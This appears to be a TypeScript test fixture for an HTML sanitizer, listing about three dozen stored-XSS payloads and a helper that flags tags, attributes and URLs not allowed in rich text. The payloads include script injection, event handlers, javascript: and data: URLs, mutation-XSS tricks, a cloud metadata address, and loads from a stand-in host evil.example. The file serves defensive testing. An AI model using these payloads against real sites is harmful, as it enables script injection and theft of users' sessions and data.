/**
 * Attempts at stored XSS. Each would open a dialog if rendered as HTML, and contains the word "hostile" outside of what
 * sanitizing removes.
 */
export const hostileHtml: readonly string[] = [
  `<p>hostile</p><script>alert(1)</script>`,
  `<p>hostile</p><script src="https://evil.example/x.js"></script>`,
  `<p>hostile</p><img src=x onerror=alert(1)>`,
  `<p>hostile</p><img src="/resources/images/1" onerror="alert(1)" onload="alert(1)">`,
  `<p>hostile</p><svg onload=alert(1)><circle r=9 /></svg>`,
  `<p>hostile</p><svg><animate attributeName=href values=javascript:alert(1) /><a><text y=20>x</text></a></svg>`,
  `<p>hostile</p><svg><script>alert(1)</script></svg>`,
  `<p>hostile</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<p>hostile</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<p>hostile</p><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<p>hostile</p><iframe src="javascript:alert(1)"></iframe>`,
  `<p>hostile</p><object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<p>hostile</p><embed src="data:text/html,<script>alert(1)</script>">`,
  `<p>hostile</p><form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>`,
  `<p>hostile</p><details open ontoggle=alert(1)>x</details>`,
  `<p>hostile</p><input autofocus onfocus=alert(1)>`,
  `<p>hostile</p><video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
  `<p>hostile</p><style>@import "https://evil.example/x.css"; * { display: none }</style>`,
  `<p>hostile</p><link rel=stylesheet href="https://evil.example/x.css">`,
  `<p>hostile</p><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<p>hostile</p><base href="https://evil.example/">`,
  `<p style="position:fixed;inset:0" id="root" class="x" onclick="alert(1)">hostile</p>`,
  `<a href="javascript:alert(1)">hostile</a>`,
  `<a href="java&#10;script:alert(1)">hostile</a>`,
  `<a href="&#x6A;avascript:alert(1)">hostile</a>`,
  `<a href=" \u0001javascript:alert(1)">hostile</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">hostile</a>`,
  `<a href="vbscript:alert(1)">hostile</a>`,
  `<p>hostile</p></site-copy><script>alert(1)</script>`,
  `<p>hostile</p></textarea></title></style></template><img src=x onerror=alert(1)>`,
  `<p>hostile</p><template><img src=x onerror=alert(1)></template>`,
  `<p>hostile</p><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<p>hostile</p><img src="http://169.254.169.254/latest/meta-data">`,
  `<p>hostile</p>{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= alert(1) %>`,
  `hostile"><img src=x onerror=alert(1)><"`,
  `hostile' onmouseover='alert(1)`,
];

/** The tags, attributes and URLs of a piece of HTML that rich text must not have. */
export function harmIn(html: string): string[] {
  const tags = [...html.matchAll(/<\/?([a-z][\w:-]*)([^>]*)>/gi)];
  return tags.flatMap(([, tag = "", attributes = ""]) => {
    const names = [...attributes.matchAll(/([\w:-]+)=/g)].map(([, name = ""]) => name);
    const pictures = [...attributes.matchAll(/src="?([^"]*)/g)].map(([, link = ""]) => link);
    const links = [...attributes.matchAll(/href="([^"]*)"/g)].map(([, link = ""]) => link);
    return [
      ...(richTags.test(tag) ? [] : [tag]),
      ...names.filter((name) => !/^(?:href|src|alt|width|height)$/.test(name)),
      ...pictures.filter((link) => !/^\/resources\/images\/\d+$/.test(link)),
      ...links.filter((link) => !/^(?:https?:|mailto:|\/(?!\/)|#)/.test(link)),
    ];
  });
}

const richTags = /^(?:p|br|strong|em|s|u|h3|h4|ul|ol|li|blockquote|hr|a|img)$/;
